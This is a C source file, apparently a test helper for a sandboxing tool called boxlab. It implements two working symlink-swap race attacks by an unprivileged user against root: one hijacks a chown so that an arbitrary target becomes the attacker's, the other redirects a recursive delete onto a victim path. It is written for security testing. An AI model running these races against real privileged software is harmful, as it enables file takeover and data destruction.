/* swapper.c - a hostile user racing root's boxlab, for test/safety/users.test.ts.
 *
 * Run as the unprivileged user that `boxlab run --user` hands its overlay to. It
 * watches the state root (inotify) for boxlab's run directory, then does one attack
 * and exits, printing what happened on stdout:
 *
 *   swapper chown STATE_ROOT TARGET
 *       Each time root changes the run directory or a name in it (IN_ATTRIB: a chown
 *       or chmod), try to rename RUN/merged away and put a link to TARGET in its
 *       place, hoping root then chowns `merged` by path (the link is followed: TARGET
 *       becomes this user's). The test runs it at a real-time priority on the CPU
 *       boxlab is pinned to, so it runs the moment it is woken, before root's next
 *       step. Prints "swapped", or "refused ERRNO" when the run directory went away
 *       before the rename ever succeeded.
 *
 *   swapper rm STATE_ROOT VICTIM N
 *       Once RUN/upper is this user's, make RUN/upper/b with files f0 .. fN-1 (the
 *       names VICTIM holds), and wait for the remover to open b or delete one of
 *       them (inotify IN_OPEN, IN_DELETE); then rename b away and put a link to VICTIM
 *       in its place, hoping root goes on deleting upper/b/fK by path, through the
 *       link. A remover
 *       running as this user is stopped meanwhile (kill(-1, SIGSTOP) reaches every
 *       process of ours), so the swap always lands in the middle of its work. Prints
 *       "ready" when the files are made and "swapped" after the swap.
 *
 * Each attack gives up after 20 s. Exit status 0 when it swapped, 1 when not.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static time_t deadline;

static void give_up_later(void)
{
	if (time(NULL) > deadline) {
		printf("timeout\n");
		exit(1);
	}
}

/* Wait for a directory named bl-run-* to appear in ROOT; its path goes to RUN. Returns
 * the inotify descriptor, still watching ROOT (IN_DELETE then says the run is over). */
static int wait_for_run_dir(const char *root, char *run, size_t size)
{
	int in = inotify_init1(IN_CLOEXEC);
	if (in < 0 || inotify_add_watch(in, root, IN_CREATE | IN_DELETE | IN_ONLYDIR) < 0) {
		perror("inotify");
		exit(2);
	}
	printf("watching\n");
	fflush(stdout);
	char events[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	for (;;) {
		ssize_t n = read(in, events, sizeof events);
		if (n <= 0) {
			perror("read inotify");
			exit(2);
		}
		for (char *p = events; p < events + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			if ((e->mask & IN_CREATE) && e->len && strncmp(e->name, "bl-run-", 7) == 0) {
				snprintf(run, size, "%s/%s", root, e->name);
				return in;
			}
			p += sizeof *e + e->len;
		}
	}
}

static int attack_chown(const char *root, const char *target)
{
	char run[PATH_MAX];
	int in = wait_for_run_dir(root, run, sizeof run);
	if (inotify_add_watch(in, run, IN_ATTRIB) < 0 || chdir(run) < 0) {
		printf("refused %s\n", strerror(errno));
		return 1;
	}
	char events[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	for (;;) {
		/* Tried first: the directory may have been handed over before the watch. */
		if (rename("merged", "merged.away") == 0)
			break;
		int err = errno;
		ssize_t n = read(in, events, sizeof events);
		for (char *p = events; n > 0 && p < events + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			if ((e->mask & IN_DELETE) && e->len && strcmp(run + strlen(root) + 1, e->name) == 0) {
				printf("refused %s\n", strerror(err));
				return 1;
			}
			p += sizeof *e + e->len;
		}
		give_up_later();
	}
	if (symlink(target, "merged") < 0) {
		printf("symlink failed %s\n", strerror(errno));
		return 1;
	}
	printf("swapped\n");
	return 0;
}

static int attack_rm(const char *root, const char *victim, int count)
{
	char run[PATH_MAX], upper[PATH_MAX], b[PATH_MAX], away[PATH_MAX], f[PATH_MAX];
	close(wait_for_run_dir(root, run, sizeof run));
	snprintf(upper, sizeof upper, "%s/upper", run);
	snprintf(b, sizeof b, "%s/b", upper);
	snprintf(away, sizeof away, "%s/b.away", upper);
	/* Until root hands upper over, mkdir fails (ENOENT, then EACCES). */
	while (mkdir(b, 0755) < 0) {
		if (errno != EACCES && errno != ENOENT) {
			printf("mkdir failed %s\n", strerror(errno));
			return 1;
		}
		give_up_later();
	}
	for (int i = 0; i < count; i++) {
		snprintf(f, sizeof f, "%s/f%d", b, i);
		int fd = open(f, O_WRONLY | O_CREAT | O_EXCL, 0644);
		if (fd < 0) {
			printf("create failed %s\n", strerror(errno));
			return 1;
		}
		close(fd);
	}
	int in = inotify_init1(IN_CLOEXEC);
	if (in < 0 || inotify_add_watch(in, b, IN_OPEN | IN_DELETE) < 0) {
		perror("inotify");
		return 2;
	}
	printf("ready\n");
	fflush(stdout);
	char events[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	if (read(in, events, sizeof events) <= 0) {
		perror("read inotify");
		return 2;
	}
	kill(-1, SIGSTOP);
	int failed = rename(b, away) < 0 || symlink(victim, b) < 0;
	int err = errno;
	kill(-1, SIGCONT);
	if (failed) {
		printf("swap failed %s\n", strerror(err));
		return 1;
	}
	printf("swapped\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	deadline = time(NULL) + 20;
	if (argc == 4 && strcmp(argv[1], "chown") == 0)
		return attack_chown(argv[2], argv[3]);
	if (argc == 5 && strcmp(argv[1], "rm") == 0)
		return attack_rm(argv[2], argv[3], atoi(argv[4]));
	fprintf(stderr, "usage: swapper chown STATE_ROOT TARGET | swapper rm STATE_ROOT VICTIM N\n");
	return 2;
}
